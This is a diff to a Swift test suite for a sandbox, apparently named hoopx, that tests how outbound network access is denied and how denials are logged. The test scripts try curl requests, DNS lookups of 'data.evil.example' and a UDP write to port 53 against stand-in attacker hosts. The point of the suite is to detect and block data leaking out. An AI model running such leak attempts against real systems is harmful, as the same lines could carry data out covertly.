@@ -3,19 +3,38 @@ import Testing
 
 /// What the target can reach: the connections, the tunnels, what it started itself, and nothing else.
 @Suite struct EgressTests {
+    private static let exampleNames = "version: 1\negress: {tunnel: ['*.example.com:443']}"
+
     @Test(arguments: Account.all)
-    func whatNothingNamesIsDeniedAtConnectAndTheUserIsToldHowToAllowIt(account: Account) async throws {
+    func aNameThatNothingNamesDoesNotExistAndTheUserIsToldHowToAllowIt(account: Account) async throws {
         try await HoopxFixture.run(as: account) { fixture in
             let run = try await fixture.shell(
                 "curl -sS -m 60 https://evil.example.com/; curl -sS -m 60 https://evil.example.com/; exit 3",
                 configuration: fixture.configuration("version: 1"))
             #expect(run.exit == .status(3), "\(run)")
+            #expect(run.stderr.contains("curl: (6)"), "not found, not timed out: \(run)")
+            let own = run.stderr.split(separator: "\n").filter { $0.hasPrefix("hoopx: ") }
+            #expect(own.count == 2, "one line for both attempts, and its hint: \(run)")
+            #expect(own.first?.contains("hoopx: denied: a lookup of evil.example.com") == true, "\(run)")
+            #expect(own.first?.contains("name_not_allowed") == true, "\(run)")
+            #expect(own.last?.contains("egress.tunnel") == true, "\(run)")
+            let session = try await fixture.newestSession()
+            #expect(session.connections?.isEmpty == true, "what was refused is a denial, not a connection")
+            #expect(session.denials?.map(\.count) == [2])
+        }
+    }
+
+    @Test(arguments: Account.all)
+    func anAddressThatNothingNamesIsRefusedAtConnect(account: Account) async throws {
+        try await HoopxFixture.run(as: account) { fixture in
+            let run = try await fixture.shell(
+                "curl -sS -m 60 https://192.0.2.7/; curl -sS -m 60 https://192.0.2.7/; exit 3",
+                configuration: fixture.configuration("version: 1"))
             #expect(run.stderr.contains("curl: (7)"), "refused, not timed out: \(run)")
             let own = run.stderr.split(separator: "\n").filter { $0.hasPrefix("hoopx: ") }
             #expect(own.count == 2, "one line for both attempts, and its hint: \(run)")
-            #expect(own.first?.contains("hoopx: denied: a connection to evil.example.com:443") == true, "\(run)")
+            #expect(own.first?.contains("hoopx: denied: a connection to 192.0.2.7:443") == true, "\(run)")
             #expect(own.first?.contains("destination_not_allowed") == true, "\(run)")
-            #expect(own.last?.contains("egress.tunnel") == true, "\(run)")
             let session = try await fixture.newestSession()
             #expect(session.connections?.isEmpty == true, "a refused connect is a denial, not a connection")
             #expect(session.denials?.map(\.count) == [2])
@@ -25,11 +44,11 @@ import Testing
     @Test func aDeniedPlainHTTPRequestIsAnsweredWithAReadableRefusal() async throws {
         try await HoopxFixture.run { fixture in
             let run = try await fixture.shell(
-                "curl -sS -m 60 -w '%{http_code}' http://evil.example.com/path",
+                "curl -sS -m 60 -w '%{http_code}' http://192.0.2.7/path",
                 configuration: fixture.configuration("version: 1"))
             #expect(run.exit == .status(0), "\(run)")
             #expect(run.stdout.hasSuffix("403"), "\(run)")
-            #expect(run.stdout.contains("evil.example.com:80"), "\(run)")
+            #expect(run.stdout.contains("192.0.2.7:80"), "\(run)")
             #expect(run.stdout.contains("egress.tunnel"), "\(run)")
         }
     }
@@ -112,7 +131,7 @@ import Testing
     }
 
     @Test(arguments: Account.all)
-    func anyNameResolvesToASyntheticAddressThatStays(account: Account) async throws {
+    func anAllowedNameResolvesToASyntheticAddressThatStays(account: Account) async throws {
         try await HoopxFixture.run(as: account) { fixture in
             let run = try await fixture.python(
                 """
@@ -121,7 +140,7 @@ import Testing
                 other = socket.gethostbyname("another.example.com")
                 print(first.startswith("198.1"), first != other, first == socket.gethostbyname("NO-such-name.example.com."))
                 print([a[4][0] == first for a in socket.getaddrinfo("no-such-name.example.com", 443, type=socket.SOCK_STREAM)])
-                """, configuration: fixture.configuration("version: 1"))
+                """, configuration: fixture.configuration(Self.exampleNames))
             #expect(run.stdout == "True True True\n[True]\n", "\(run)")
             #expect(run.stderr == "", "asking for a name is no attempt to reach it: \(run)")
         }
@@ -140,7 +159,7 @@ import Testing
                       console.log(a.startsWith("198.1"), a === b);
                     })();
                     """,
-                ], configuration: fixture.configuration("version: 1"))
+                ], configuration: fixture.configuration(Self.exampleNames))
             #expect(run.stdout == "true true\n", "\(run)")
         }
     }
@@ -164,7 +183,7 @@ import Testing
         try await HoopxFixture.run { fixture in
             let api = try await fixture.claudeAPI()
             let attempts = """
-                getent hosts name.example.com
+                getent hosts api.anthropic.com
                 curl -sS -m 60 ${ANTHROPIC_BASE_URL:-https://api.anthropic.com}/v1/messages \
                   -H "x-api-key: $ANTHROPIC_API_KEY" -d '\(Question.body)'
                 curl -sS -m 60 https://denied.example.com/; echo "denied: $?"
@@ -191,6 +210,8 @@ import Testing
             // A network of its own, whose only exit is watched (sniffed_network.py), as root in it.
             let attempts = """
                 timeout 2 getent hosts leak.example.com
+                timeout 2 getent hosts data.evil.example
+                timeout 2 node -e 'require("dns").resolve4("data.evil.example", () => {})'
                 timeout 2 node -e 'require("dns").resolve4("leak.example.com", () => {})'
                 curl -sS -m 2 https://leak.example.com/; curl -sS -m 2 http://192.0.2.7:81/
                 echo x > /dev/udp/192.0.2.7/53; true
@@ -201,7 +222,9 @@ import Testing
             ]
             let control = try await fixture.start(program: program + ["/bin/bash", "-c", attempts]).finish()
             #expect(control.stdout.contains("left the machine: "), "\(control)")
-            let configuration = try fixture.configuration("version: 1")
+            let configuration = try fixture.configuration(
+                // A name that resolves, at a port that nothing asks for.
+                "version: 1\negress: {tunnel: ['*.example.com:9']}")
             let run = try await fixture.start(
                 program: program + [
                     HoopxFixture.hoopx, "run", "--config", configuration, "--", "/bin/bash", "-c", attempts,
